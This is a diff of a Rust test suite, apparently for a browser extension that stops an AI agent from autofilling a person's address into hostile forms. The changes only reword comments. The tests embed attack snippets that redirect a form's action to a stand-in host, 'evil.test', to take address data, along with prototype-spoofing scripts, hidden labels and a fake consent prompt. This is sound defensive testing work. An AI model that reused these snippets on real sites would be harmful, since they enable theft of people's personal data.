@@ -34,7 +34,7 @@ fn ask_on(stage: &mut Stage, html: &str) -> String {
     stage.agent(Some(REQUEST))
 }
 
-/// Names of controls that hide where a form goes, and a main world that lies about everything it can.
+/// Names of controls that hide the target of a form, and a main world that returns false values for everything it can.
 fn clobbered(stage: &mut Stage) {
     let lies = "<script>
         const lie = (type, name, value) => Object.defineProperty(type.prototype, name, { get: () => value, set() {} });
@@ -53,12 +53,12 @@ fn clobbered(stage: &mut Stage) {
     let hidden = FORM.replace("<label>Street", "<label style='opacity:0.01'>Street");
     let reply = ask_on(stage, &(hidden + lies));
     assert!(reply.contains("DENY.address"), "{reply}");
-    // The same names on a form that goes home take nothing away from the person.
+    // The same names on an honest form do not prevent the fill.
     let reply = ask_on(stage, &clobbered);
     assert!(reply.contains("GRANT.address"), "{reply}");
 }
 
-/// Forms that turn elsewhere when they are filled, or afterwards.
+/// Forms that change their target while they are filled, or afterwards.
 fn raced(stage: &mut Stage) {
     let turns = "<script>addEventListener('input', () => {
         document.forms[0].action = 'https://evil.test:PORT/take'; });</script>";
@@ -76,7 +76,7 @@ fn raced(stage: &mut Stage) {
     let reply = ask_on(stage, &format!("{FORM}{swapped}"));
     assert!(reply.contains("DENY.address"), "{reply}");
 
-    // After the fill: what is sent elsewhere is not sent.
+    // After the fill, a request to another target is not sent.
     let reply = ask_on(stage, FORM);
     assert!(reply.contains("GRANT.address"), "{reply}");
     stage.browser().evaluate("document.forms[0].action = 'https://evil.test:1/take'");
@@ -85,7 +85,7 @@ fn raced(stage: &mut Stage) {
     assert_eq!(values["street"], "", "the form was cleared and not sent");
 }
 
-/// A form in a frame of somebody else's page, and one in a sandbox.
+/// A form in a frame of another site's page, and one in a sandbox.
 fn framed(stage: &mut Stage) {
     let sandbox = "<h1>Deliver to</h1><iframe sandbox='allow-scripts allow-forms' srcdoc='<form action=/order method=post>
         <input autocomplete=street-address><input autocomplete=postal-code><input autocomplete=address-level2></form>'>
@@ -100,7 +100,7 @@ fn framed(stage: &mut Stage) {
     assert!(reply.contains("DENY.address"), "{reply}");
 }
 
-/// A page that looks like a question of ours: a yes that is clicked there is said to nobody.
+/// A page that imitates the question: a yes that is clicked there has no effect.
 fn imitated(stage: &mut Stage) {
     stage.answer("no");
     stage.task();
@@ -115,7 +115,7 @@ fn imitated(stage: &mut Stage) {
     assert_eq!(values["street"], "");
 }
 
-/// Nothing of the extension can be framed, fetched, opened or spoken to by a page.
+/// A page cannot frame, fetch, open or message any part of the extension.
 fn unreachable(stage: &mut Stage) {
     let id = portcullis::service::protocol::EXTENSION_ID;
     let tried = stage.browser().evaluate(&format!(
@@ -136,7 +136,7 @@ fn unreachable(stage: &mut Stage) {
     assert_eq!(tried, serde_json::json!(["refused", "refused", "refused", "undefined"]));
 }
 
-/// A page of many frames, and an agent that asks without end: the person is asked a handful of times.
+/// A page of many frames, and an agent that asks without end: the person gets a handful of questions.
 fn flooded(stage: &mut Stage) {
     let many = "<iframe srcdoc='<form action=/order method=post><input autocomplete=street-address></form>'></iframe>";
     stage.site.put("shop.test/many", &format!("{FORM}{}", many.repeat(120)));
